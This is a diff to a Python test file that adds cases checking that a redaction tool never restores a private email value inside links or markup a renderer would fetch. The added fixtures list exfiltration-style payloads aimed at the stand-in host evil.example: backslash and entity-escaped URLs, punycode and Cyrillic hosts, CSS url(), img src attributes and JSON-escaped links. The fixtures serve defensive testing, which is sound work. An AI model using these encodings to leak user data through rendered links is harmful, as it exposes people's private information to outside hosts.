@@ -60,6 +60,30 @@ KEPT = {
     "www": f"www.evil.example/{MAIL} ",
     "data URL": f"data:text/html,{MAIL} ",
     "followed by a path": f"{MAIL}/x ",
+    "backslashes for slashes": f"https:/\\evil.example\\{MAIL} ",
+    "network path in backslashes": f"\\\\evil\\share\\{MAIL} ",
+    "attribute after a quoted bracket": f'<img alt=">" src="/\\3232235777/{MAIL}">',
+    "scheme without slashes": f"<https:{MAIL}>",
+    "style sheet": f"<style>a{{background:url({MAIL})}}</style>",
+    "entities for slashes": f"https&#58;&#x2F;&#47;evil&#46;example&#47;{MAIL} ",
+    "host in another script": f"evil.\u0440\u0444/{MAIL} ",
+    "host in punycode": f"evil.xn--p1ai/{MAIL} ",
+}
+KEPT_IN_JSON = {
+    "escaped slashes": f'{{"u":"https:\\/\\/evil.example\\/{MAIL}"}}',
+    "escaped slashes, address": f'{{"u":"http:\\/\\/203.0.113.9\\/{MAIL}"}}',
+    "code points": f'{{"u":"\\u0068ttps\\u003a\\u002f\\u002Fevil\\u002eexample/{MAIL}"}}',
+    "mailto": f'{{"u":"mailto\\u003a{MAIL}"}}',
+    "image": f'{{"t":"!\\u005bx\\u005d\\u0028evil\\u002eexample/{MAIL})"}}',
+    "attribute": f'{{"t":"\\u003cimg src=\\"\\/\\/evil.example\\/{MAIL}\\"\\u003e"}}',
+    "attribute in code points": f'{{"t":"\\u003cimg src\\u003d\\u0022x {MAIL}\\u0022\\u003e"}}',
+    "JSON in JSON": f'{{"t":"{{\\"u\\":\\"https:\\\\/\\\\/evil.example\\\\/{MAIL}\\"}}"}}',
+    "host behind": f'{{"t":"{MAIL}\\u002eevil.example\\/x"}}',
+}
+RESTORED_IN_JSON = {
+    "after a URL and an escaped line end": f'{{"t":"https://x.example/\\n{MAIL}"}}',
+    "after an escaped backslash": f'{{"p":"C:\\\\Users\\\\x","to":"{MAIL}"}}',
+    "after a quoted word": f'{{"t":"\\"hello\\" {MAIL}"}}',
 }
 
 
@@ -73,6 +97,25 @@ def test_a_value_never_comes_back_where_a_renderer_would_send_it(text: str) -> N
     assert restore(text, SCOPE.original) == text
 
 
+@pytest.mark.parametrize("text", KEPT_IN_JSON.values(), ids=KEPT_IN_JSON.keys())
+def test_a_link_spelt_in_the_escapes_of_json_is_a_link(text: str) -> None:
+    assert restore(text, SCOPE.original, json=True) == text
+
+
+@pytest.mark.parametrize("text", RESTORED_IN_JSON.values(), ids=RESTORED_IN_JSON.keys())
+def test_escapes_of_json_that_are_no_link_do_not_keep_a_value_away(text: str) -> None:
+    got = restore(text, SCOPE.original, json=True)
+    assert json.loads(got) == json.loads(text.replace(MAIL, "marta.quill@example.com"))
+
+
+@pytest.mark.parametrize("text", [*KEPT_IN_JSON.values(), *RESTORED_IN_JSON.values()])
+def test_every_cutting_of_json_gives_the_same_text(text: str) -> None:
+    whole = restore(text, SCOPE.original, json=True)
+    assert cut(text, True, [1] * len(text)) == whole
+    for position in range(len(text)):
+        assert cut(text, True, [position]) == whole
+
+
 @pytest.mark.parametrize("text", [*RESTORED.values(), *KEPT.values()], ids=[*RESTORED, *KEPT])
 def test_every_cutting_gives_the_same_text(text: str) -> None:
     whole = restore(text, SCOPE.original)
@@ -84,7 +127,26 @@ def test_every_cutting_gives_the_same_text(text: str) -> None:
 @given(
     st.lists(
         st.sampled_from(
-            [MAIL, NAME, "<", ">", "](", ")", "a", " ", "https://", ".co", "/", '"', "=", "\n", "<E", "\\"]
+            [
+                MAIL,
+                NAME,
+                "<",
+                ">",
+                "](",
+                ")",
+                "a",
+                " ",
+                "https://",
+                ".co",
+                "/",
+                '"',
+                "=",
+                "\n",
+                "<E",
+                "\\",
+                "u002",
+                "f",
+            ]
         )
     ),
     st.randoms(),
